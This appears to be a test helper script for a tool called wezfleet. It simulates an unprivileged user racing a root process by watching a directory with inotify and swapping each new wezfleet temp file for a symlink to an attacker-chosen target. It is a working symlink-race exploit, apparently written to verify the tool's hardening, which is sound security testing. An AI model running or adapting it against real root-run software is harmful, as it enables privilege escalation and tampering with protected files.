#!/usr/bin/env python3
"""A user attacking wezfleet running as root in their home directory: watches DIR with inotify and,
the moment a wezfleet temp file appears, replaces it with a symlink to TARGET, hoping root then
writes, chmods or chowns through it. Prints "ready" once watching and "swapped NAME" per swap; ends
when its stdin closes."""
import ctypes
import os
import select
import struct
import sys

IN_CREATE = 0x100
directory, target = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_CLOEXEC)
if fd < 0 or libc.inotify_add_watch(fd, directory, IN_CREATE) < 0:
    sys.exit(f"inotify: errno {ctypes.get_errno()}")
print("ready", flush=True)
while True:
    ready, _, _ = select.select([fd, sys.stdin], [], [])
    if sys.stdin in ready and not os.read(sys.stdin.fileno(), 1):
        break
    if fd not in ready:
        continue
    buf = os.read(fd, 65536)
    i = 0
    while i < len(buf):
        _wd, _mask, _cookie, length = struct.unpack_from("iIII", buf, i)
        name = buf[i + 16 : i + 16 + length].rstrip(b"\0")
        i += 16 + length
        if b".wezfleet-" not in name or b"backup" in name:
            continue
        path = os.path.join(directory, name)
        try:
            os.unlink(path)
            os.symlink(target, path)
            print("swapped", name.decode(), flush=True)
        except OSError:
            pass
